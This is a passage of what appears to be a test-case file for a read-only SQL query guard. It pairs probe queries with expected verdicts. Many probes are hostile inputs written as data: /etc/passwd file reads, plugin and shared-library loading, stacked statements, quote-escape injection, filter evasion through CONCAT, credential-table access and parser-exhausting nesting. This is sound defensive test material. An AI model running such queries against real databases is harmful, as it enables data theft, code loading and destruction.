NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT true

-- too large, too deep | safe
SELECT --------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------1

-- resources | safe
SELECT CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN 1 END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END

-- empty | syntax,not-a-select,bad-request
;

-- empty | syntax,not-a-select,bad-request
-- nothing

-- noise | syntax,not-a-select
SELEC * FORM customers

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
CREATE TRIGGER t AFTER INSERT ON orders BEGIN SELECT 1; END

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
SAVEPOINT x

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
RELEASE x

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
REINDEX

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
ANALYZE

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
EXPLAIN QUERY PLAN SELECT 1

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
BEGIN IMMEDIATE

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
END

-- text in double quotes | safe
SELECT id FROM customers WHERE "token" = 'x'

-- text in double quotes | safe
SELECT "no such name" FROM customers

-- text in double quotes | safe
SELECT "text in double quotes"

-- hidden or absent name | unknown-name,not-supported,syntax
SELECT TOKEN FROM CUSTOMERS

-- hidden or absent name | unknown-name,not-supported,syntax
SELECT * FROM main.credentials

-- hidden or absent name | unknown-name,not-supported,syntax
SELECT * FROM temp.credentials

-- hidden or absent name | unknown-name,not-supported,syntax
SELECT * FROM "credentials"

-- hidden or absent name | unknown-name,not-supported,syntax
SELECT * FROM 'credentials'

-- hidden or absent name | unknown-name,not-supported,syntax
SELECT 'token' FROM customers, credentials

-- masked column through an expression | safe
SELECT id FROM customers WHERE name MATCH 'x'

-- masked column through an expression | safe
SELECT id FROM customers WHERE name REGEXP 'x'

-- masked column through an expression | safe
SELECT name FROM customers ORDER BY name COLLATE x

-- masked column through an expression | safe
SELECT hex(name), quote(name) FROM customers

-- masked column through an expression | safe
SELECT json_object('n', name, 'p', phone) FROM customers

-- masked column through an expression | safe
SELECT substr(name, id, 1) FROM customers

-- masked column through an expression | safe
SELECT instr(name, 'CANARY') FROM customers

-- masked column through an expression | safe
SELECT CAST(name AS BLOB) FROM customers

-- masked column through an expression | safe
SELECT soundex(name) FROM customers

-- masked column through an expression | safe
SELECT json_extract(payload, '$.secret') FROM events

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE instr(name, 'CANARY') > 0

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE ssn = 'CANARYssn900001013'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE (name, 1) = ('Ada CANARYname1 Lovelace', 1)

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE name >= 'Ada CANARYname1 L' AND name < 'Ada CANARYname1 M'

-- guessing behind the mask | no-rows
SELECT id FROM customers AS c WHERE EXISTS (SELECT 1 WHERE c.name LIKE '%CANARY%')

-- error text | safe
SELECT abs(-9223372036854775808)

-- error text | safe
SELECT json_extract(name, '$.x') FROM customers

-- error text | safe
SELECT sum(9223372036854775807) FROM customers

-- error text | safe
SELECT 'x' LIKE 'x' ESCAPE 'xx'

-- error text | safe
SELECT json_extract('{', '$')

-- error text | safe
SELECT 1 << 70, 1 / 0, 5 % 0

-- error text | safe
SELECT substr('x', 9223372036854775807, 9223372036854775807)

-- row filter | european-answers
SELECT id FROM customers WHERE abs(CASE WHEN region = 'US' THEN -9223372036854775808 ELSE 1 END) = 1

-- row filter | european-no-rows
SELECT count(*) FROM customers WHERE region = 'APAC'

-- row filter | european-no-rows
SELECT id FROM orders o WHERE NOT EXISTS (SELECT 1 FROM customers c WHERE c.id = o.customer_id)

-- parameters | bad-params
SELECT ?2

-- parameters | bad-params,safe
SELECT ?

-- parameters | bad-params,syntax,not-supported
SELECT @name

-- parameters | bad-params,safe
SELECT $1

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
HANDLER customers OPEN

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
HANDLER customers READ FIRST

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
HANDLER credentials READ FIRST

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
SHOW TABLES

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
SHOW GRANTS

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
SHOW CREATE TABLE customers

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
SHOW PROCESSLIST

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
SHOW VARIABLES LIKE '%dir%'

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
SHOW COLUMNS FROM credentials

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
SHOW INDEX FROM customers

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
SHOW ENGINE INNODB STATUS

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
SHOW WARNINGS

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
DESCRIBE credentials

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
DESC customers

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
EXPLAIN customers

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
EXPLAIN FORMAT=JSON SELECT token FROM customers

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
ANALYZE FORMAT=JSON SELECT 1

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
ANALYZE TABLE customers

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
USE mysql

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
KILL 1

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
KILL QUERY 1

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
FLUSH TABLES

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
FLUSH PRIVILEGES

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
LOCK TABLES customers READ

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
UNLOCK TABLES

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
LOAD DATA INFILE '/etc/passwd' INTO TABLE products

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE products

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
LOAD XML INFILE 'x' INTO TABLE products

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
PREPARE s FROM 'SELECT token FROM customers'

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
PREPARE s FROM CONCAT('SELECT tok','en FROM customers')

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
EXECUTE s

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
EXECUTE IMMEDIATE 'SELECT token FROM customers'

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
EXECUTE IMMEDIATE CONCAT('SELECT tok','en FROM customers')

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
DEALLOCATE PREPARE s

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
DO SLEEP(1)

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
DO RELEASE_ALL_LOCKS()

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
CALL mysql.x()

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
SET @x = (SELECT token FROM customers LIMIT 1)

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
SET SESSION sql_mode = ''

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
SET GLOBAL general_log = 1

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
SET NAMES gbk

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
SET CHARACTER SET latin1

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
SET STATEMENT max_statement_time=0 FOR SELECT 1

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
SET PASSWORD = 'x'

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
SET ROLE x

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
START TRANSACTION

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
START TRANSACTION READ WRITE

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
XA START 'x'

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
INSTALL PLUGIN x SONAME 'x.so'

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
INSTALL SONAME 'x'

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
UNINSTALL PLUGIN x

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
CREATE FUNCTION f RETURNS INTEGER SONAME 'x.so'

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
CREATE USER x

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
RENAME TABLE customers TO c

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
OPTIMIZE TABLE customers

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
REPAIR TABLE customers

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
CHECK TABLE customers

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
CHECKSUM TABLE customers

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
CACHE INDEX customers IN x

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
PURGE BINARY LOGS TO 'x'

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
RESET MASTER

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
CHANGE MASTER TO MASTER_HOST='x'

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
SIGNAL SQLSTATE '45000'

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
GET DIAGNOSTICS @x = NUMBER

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
BINLOG 'x'

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
HELP 'x'

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
SHUTDOWN

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
BEGIN NOT ATOMIC SELECT 1; END

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
REPLACE INTO products (id) VALUES (1)

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
INSERT INTO products SELECT * FROM products ON DUPLICATE KEY UPDATE id = id

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
TRUNCATE TABLE orders

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
BACKUP STAGE START

-- clause or construct | safe
VALUES ROW(1)

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
DELIMITER //
SELECT 1//

-- several statements | many-statements,not-a-select,syntax,not-supported
SELECT 1; SET @x = 1

-- several statements | many-statements,not-a-select,syntax,not-supported
SELECT 1;DELIMITER $$

-- several statements | many-statements,not-a-select,syntax,not-supported
SELECT 1 ; ; SELECT 2

-- several statements | many-statements,not-a-select,syntax,not-supported
SELECT 1\G; SELECT 2

-- several statements | many-statements,not-a-select,syntax,not-supported
SELECT 'a\'; SELECT 2; -- '; SELECT 3

-- several statements | many-statements,not-a-select,syntax,not-supported
SELECT "a\"; SELECT 2; -- "; SELECT 3

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
SELECT `token` FROM customers

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
SELECT customers.`token` FROM customers

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
SELECT {db}.customers.token FROM {db}.customers

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
SELECT `hidden col` FROM `Odd Table`

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
SELECT TOKEN FROM customers

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
SELECT ToKeN FROM customers

-- hidden or absent name | unknown-name,not-supported,syntax,function-refused
